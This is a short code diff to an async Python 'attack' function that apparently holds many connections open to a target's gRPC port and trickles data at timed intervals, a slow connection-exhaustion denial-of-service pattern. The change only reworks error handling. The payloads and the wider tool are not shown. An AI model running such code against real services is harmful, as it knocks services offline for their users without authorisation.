@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Sequence
+from contextlib import suppress
 
 import trio
 
@@ -22,23 +23,22 @@ async def attack(target: Target, sources: Sequence[str]) -> None:
 
     async def visit(stream: trio.SocketStream) -> None:
         async with trio.open_nursery() as nursery:
-            nursery.start_soon(_read, stream, nursery.cancel_scope)
-            await stream.send_all(first)
-            due = trio.current_time()
-            while True:
-                await stream.send_all(pieces)
-                due += TURN_S
-                await trio.sleep_until(due)
+            nursery.start_soon(_until_closed, stream, nursery.cancel_scope)
+            with suppress(trio.BrokenResourceError):
+                await stream.send_all(first)
+                due = trio.current_time()
+                while True:
+                    await stream.send_all(pieces)
+                    due += TURN_S
+                    await trio.sleep_until(due)
 
     await hold([Crowd(target.host, target.grpc_port, len(sources))], sources, visit)
 
 
-async def _read(stream: trio.SocketStream, connection: trio.CancelScope) -> None:
-    try:
+async def _until_closed(stream: trio.SocketStream, connection: trio.CancelScope) -> None:
+    with suppress(trio.BrokenResourceError):
         while await stream.receive_some(65536):
             pass
-    except trio.BrokenResourceError:
-        pass
     connection.cancel()
 
 
